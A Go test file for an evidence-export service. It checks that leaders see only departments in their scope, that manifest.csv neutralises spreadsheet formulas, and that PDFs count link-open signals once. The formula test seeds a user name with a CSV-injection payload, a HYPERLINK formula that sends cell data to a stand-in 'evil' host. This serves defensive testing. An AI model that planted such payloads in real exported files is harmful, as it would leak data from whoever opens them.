package evidence

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/yidu-io/yidu/internal/testenv"
)

// departmentsOf is a DepartmentScope of the members of some departments
// (a leader's access.View).
type departmentsOf struct {
	only
	ids []int64
}

func (d departmentsOf) Departments() ([]int64, bool) { return d.ids, false }

func deptIDs(ds []Department) []int64 {
	out := []int64{}
	for _, d := range ds {
		out = append(out, d.ID)
	}
	return out
}

// TestDepartmentsCutToScope (issue 46 item 7): zhangsan is in 人力资源部
// (2) and 销售部 (3); the leader of 人力资源部 sees zhangsan but not that
// they are also in 销售部, in the record, its PDF's record and the ZIP's
// record.json; the corp's scope sees both.
func TestDepartmentsCutToScope(t *testing.T) {
	f := newFixture(t, 4)
	mustExec(t, f.db, `UPDATE users SET departments = '2,3' WHERE corp_id = ? AND uid = 1`, corp)
	mustExec(t, f.db, `INSERT INTO user_departments (corp_id, dept_id, uid) VALUES (?, 3, 1)`, corp)
	s := f.service(t, true)
	ctx := context.Background()
	leader := departmentsOf{only: only{1: true, 2: true}, ids: []int64{2}}
	tests := []struct {
		name  string
		scope Scope
		want  []int64
	}{
		{"leader of 人力资源部", leader, []int64{2}},
		{"leader of 总部 (2 and 3 are below it)", departmentsOf{only: only{1: true}, ids: []int64{1}}, []int64{2, 3}},
		{"everyone", everyone{}, []int64{2, 3}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rec, err := s.Record(ctx, tt.scope, corp, "msg1", "zhangsan")
			if err != nil {
				t.Fatal(err)
			}
			if got := deptIDs(rec.Person.Departments); !slices.Equal(got, tt.want) {
				t.Errorf("Record's departments = %v; want %v", got, tt.want)
			}
			z, _ := buildZIP(t, s, tt.scope, Filter{})
			zr, err := zip.NewReader(bytes.NewReader(z), int64(len(z)))
			if err != nil {
				t.Fatal(err)
			}
			rc, err := zr.Open("zhangsan/record.json")
			if err != nil {
				t.Fatal(err)
			}
			b, _ := io.ReadAll(rc)
			rc.Close()
			var zrec Record
			if err := json.Unmarshal(b, &zrec); err != nil {
				t.Fatal(err)
			}
			if got := deptIDs(zrec.Person.Departments); !slices.Equal(got, tt.want) {
				t.Errorf("ZIP record.json's departments = %v; want %v", got, tt.want)
			}
			if tt.name == "leader of 人力资源部" && bytes.Contains(b, []byte("销售部")) {
				t.Errorf("the leader's record.json names 销售部: %s", b)
			}
		})
	}
}

// TestManifestNeutralisesNames (issue 46 item 7): a name or UserID a
// spreadsheet would run as a formula is written as text in manifest.csv,
// as export.csv writes it, and the ZIP still checks.
func TestManifestNeutralisesNames(t *testing.T) {
	f := newFixture(t, 3)
	mustExec(t, f.db, `UPDATE users SET name = '=HYPERLINK("http://evil/?"&A1,"x")' WHERE corp_id = ? AND uid = 2`, corp)
	mustExec(t, f.db, `UPDATE users SET name = '@SUM(1+1)' WHERE corp_id = ? AND uid = 3`, corp)
	s := f.service(t, true)
	z, _ := buildZIP(t, s, everyone{}, Filter{})
	zr, err := zip.NewReader(bytes.NewReader(z), int64(len(z)))
	if err != nil {
		t.Fatal(err)
	}
	rc, err := zr.Open(zipManifest)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(rc).ReadAll()
	rc.Close()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows[1:] {
		for _, cell := range r[:2] {
			if c := strings.TrimLeft(cell, " "); c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("manifest cell %q would run as a formula", cell)
			}
		}
	}
	if !slices.ContainsFunc(rows, func(r []string) bool { return r[1] == `'=HYPERLINK("http://evil/?"&A1,"x")` }) {
		t.Errorf("manifest rows %q; want the name kept as text with a leading '", rows)
	}
	if rep, err := Check(bytes.NewReader(z), int64(len(z)), CheckOptions{}); err != nil {
		t.Errorf("Check = %v %v", err, rep.Problems)
	}
}

// TestSignalsOnce (issue 48): the page's own event of the link opened
// and the row's link_at at the same time are one signal in the record
// and the PDF (已打开 once); a card-only notice (no versions) prints no
// "版本 0".
func TestSignalsOnce(t *testing.T) {
	pdftotext := testenv.LookPath(t, "pdftotext")
	f := newFixture(t, 3)
	f.page[1] = append(f.page[1], Signal{Kind: "link", At: t0.Add(3 * time.Hour), Version: 1, Source: "page", ClientIP: "10.1.2.3", UserAgent: "wxwork/4.1"})
	s := f.service(t, false)
	rec, err := s.Record(context.Background(), everyone{}, corp, "msg1", "zhangsan")
	testenv.Check(t, "Record", err)
	links := 0
	for _, sg := range rec.Signals {
		if sg.Kind == "link" {
			links++
			if sg.VersionInferred || sg.ClientIP != "10.1.2.3" {
				t.Errorf("the link kept is %+v; want the page's event (version 1, its IP)", sg)
			}
		}
	}
	if links != 1 {
		t.Errorf("record has %d link signals; want 1: %+v", links, rec.Signals)
	}
	text := func(rec Record) string {
		var buf bytes.Buffer
		testenv.Check(t, "PDF", s.PDF(&buf, rec))
		file := filepath.Join(t.TempDir(), "e.pdf")
		testenv.Check(t, "write", os.WriteFile(file, buf.Bytes(), 0o600))
		out, err := exec.Command(pdftotext, "-layout", file, "-").Output()
		testenv.Check(t, "pdftotext", err)
		return string(out)
	}
	if n := strings.Count(text(rec), "已打开"); n != 1 {
		t.Errorf("the PDF says 已打开 %d times; want once", n)
	}
	cardOnly := Record{MsgID: "m", Person: Person{UserID: "zhangsan", Name: "张三"},
		Deliveries: []Delivery{{Kind: "send", Status: "sent", At: t0}},
		Signals:    []Signal{{Kind: "button", At: t0.Add(time.Hour), Source: "card", CountedAsRead: true}}}
	if out := text(cardOnly); strings.Contains(out, "版本 0") || !strings.Contains(out, "已点击「我已阅读」") {
		t.Errorf("card-only PDF:\n%s\nwant no 版本 0 and the press as 已点击「我已阅读」", out)
	}
}
